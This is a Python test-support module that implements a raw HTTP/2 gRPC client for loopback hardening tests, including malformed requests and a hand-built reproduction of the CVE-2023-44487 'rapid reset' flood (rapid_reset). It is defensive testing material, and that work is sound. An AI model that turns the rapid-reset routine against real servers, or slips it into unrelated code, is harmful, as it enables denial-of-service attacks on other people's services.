"""Raw HTTP/2 for the transport attacks (transport.py, `rmscore hardening`) and their tests: gRPC
requests whose headers and frames a gRPC client library will not send (a compressed message with its
flag set by hand, any `grpc-timeout`, a body that stops before its end, streams reset as fast as the
socket takes them), written with the `h2` package on a plain socket. The one raw HTTP/2 client of
the repository; `h2` is a dev dependency, so import this module only where it is used.

Loopback only, and every loop here is bounded by a count and a timeout.
"""

from __future__ import annotations

import socket
import struct
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hpack


def grpc_frame(message: bytes, compressed: bool = False) -> bytes:
    """One gRPC length-prefixed message: flag byte, 4-byte big-endian length, the bytes."""
    return struct.pack(">BI", 1 if compressed else 0, len(message)) + message


@dataclass
class Answer:
    status: int | None = None  # grpc-status; None when none arrived
    message: str = ""
    seconds: float = 0.0
    data: bytes = b""  # the answer's DATA, its gRPC frames unparsed
    goaway: bool = False
    headers: dict = field(default_factory=dict)  # response headers and trailers together


class Connection:
    """One client HTTP/2 connection to 127.0.0.1:`port`, prior knowledge (no TLS)."""

    def __init__(self, port: int, timeout_s: float = 10.0):
        self.port = port
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout_s)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        # A wide receive window, so an answer never waits on this client.
        self.h2.increment_flow_control_window(1 << 30)
        self.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: (1 << 31) - 1})
        self.flush()
        self.goaway = False

    def flush(self) -> None:
        out = self.h2.data_to_send()
        if out:
            self.sock.sendall(out)

    def close(self) -> None:
        self.sock.close()

    def headers(self, path: str, extra: list[tuple[str, str]] = ()) -> int:
        """Opens a stream for `path` (a gRPC method); its id."""
        sid = self.h2.get_next_available_stream_id()
        self.h2.send_headers(sid, [(":method", "POST"), (":scheme", "http"), (":path", path),
                                   (":authority", f"127.0.0.1:{self.port}"), ("content-type", "application/grpc"),
                                   ("te", "trailers"), *extra])
        return sid

    def events(self) -> list:
        """The events of whatever arrives next (blocks up to the socket timeout); [] when closed."""
        try:
            data = self.sock.recv(1 << 16)
        except (ConnectionResetError, socket.timeout):
            return []
        if not data or self.goaway:  # frames after a GOAWAY (window updates, PING ACKs) do not matter
            return []
        try:
            events = self.h2.receive_data(data)
        except h2.exceptions.ProtocolError:
            # A GOAWAY and frames after it in one read: h2 closes the connection at the GOAWAY and
            # then refuses the next frame (a WINDOW_UPDATE, seen in CI). The GOAWAY is what counts.
            if self.h2.state_machine.state != h2.connection.ConnectionState.CLOSED:
                raise
            self.goaway = True
            return []
        for e in events:
            if isinstance(e, h2.events.DataReceived):
                self.h2.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
            if isinstance(e, h2.events.ConnectionTerminated):
                self.goaway = True
        self.flush()
        return events

    def send_body(self, sid: int, body: bytes, deadline: float, end_stream: bool = True) -> bool:
        """Sends `body` on `sid` as fast as the server's windows allow, then ends the stream (unless
        not `end_stream`: a stalled client). False when the server refused the stream meanwhile
        (RST_STREAM, its end, GOAWAY): the rest is not sent."""
        sent = 0
        while sent < len(body):
            room = min(self.h2.local_flow_control_window(sid), self.h2.max_outbound_frame_size, len(body) - sent)
            if room <= 0:
                if time.monotonic() > deadline:
                    raise TimeoutError(f"the server's window stayed shut after {sent} of {len(body)} bytes")
                events = self.events()
                if not events or self.goaway or any(
                        isinstance(e, (h2.events.StreamReset, h2.events.StreamEnded)) and e.stream_id == sid
                        for e in events):
                    return False
                continue
            self.h2.send_data(sid, body[sent:sent + room])
            sent += room
            self.flush()
        if end_stream:
            self.h2.end_stream(sid)
            self.flush()
        return True

    def wait_answer(self, sid: int, deadline: float) -> Answer:
        """Reads until `sid` ends (trailers, a reset, GOAWAY or the connection's end) or `deadline`."""
        a = Answer()
        while time.monotonic() < deadline:
            events = self.events()
            if not events and self.goaway:
                break
            if not events and not self._alive():
                break
            for e in events:
                if isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)) and e.stream_id == sid:
                    a.headers.update(dict(e.headers))
                elif isinstance(e, h2.events.DataReceived) and e.stream_id == sid:
                    a.data += e.data
                elif isinstance(e, h2.events.StreamReset) and e.stream_id == sid:
                    a.message = f"RST_STREAM {e.error_code!r}"
                    return self._done(a)
            if "grpc-status" in a.headers or self.goaway:
                break
        return self._done(a)

    def _alive(self) -> bool:
        return self.sock.fileno() >= 0

    def _done(self, a: Answer) -> Answer:
        if "grpc-status" in a.headers:
            a.status = int(a.headers["grpc-status"])
            a.message = a.headers.get("grpc-message", "")
        a.goaway = self.goaway
        return a


def call(port: int, path: str, body: bytes, extra: list[tuple[str, str]] = (), timeout_s: float = 10.0) -> Answer:
    """One gRPC call on a fresh connection: `body` (gRPC frames, see grpc_frame) then end of stream."""
    t0 = time.monotonic()
    conn = Connection(port, timeout_s)
    try:
        deadline = t0 + timeout_s
        sid = conn.headers(path, list(extra))
        conn.send_body(sid, body, deadline)
        answer = conn.wait_answer(sid, deadline)
    finally:
        conn.close()
    answer.seconds = time.monotonic() - t0
    return answer


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def rapid_reset(port: int, path: str, streams: int, timeout_s: float = 20.0) -> bool:
    """CVE-2023-44487's pattern: `streams` HEADERS each followed by RST_STREAM(CANCEL), built by hand
    (one literal header block, never indexed, so every stream reuses it) and written at once, then a
    PING: its ACK says the server has read them all. True when the server sent GOAWAY instead."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", f"127.0.0.1:{port}"),
               ("content-type", "application/grpc"), ("te", "trailers")]
    block = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])
    cancel = struct.pack(">I", h2.errors.ErrorCodes.CANCEL)
    attack = b"".join(_frame(1, 0x4, sid, block) + _frame(3, 0, sid, cancel) for sid in range(1, 2 * streams, 2))
    marker = b"rr-done!"
    with socket.create_connection(("127.0.0.1", port), timeout=timeout_s) as sock:
        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0) + attack + _frame(6, 0, 0, marker))
        buf, deadline = b"", time.monotonic() + timeout_s
        while time.monotonic() < deadline:
            while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                size, kind, flags = int.from_bytes(buf[:3], "big"), buf[3], buf[4]
                payload, buf = buf[9:9 + size], buf[9 + size:]
                if kind == 7:  # GOAWAY
                    return True
                if kind == 6 and flags & 1 and payload == marker:
                    return False
                if kind == 4 and not flags & 1:
                    sock.sendall(_frame(4, 1, 0))  # ACK its SETTINGS, as a client must
            data = sock.recv(1 << 16)
            if not data:
                return False
            buf += data
    raise TimeoutError(f"no PING ACK within {timeout_s} s of {streams} reset streams")
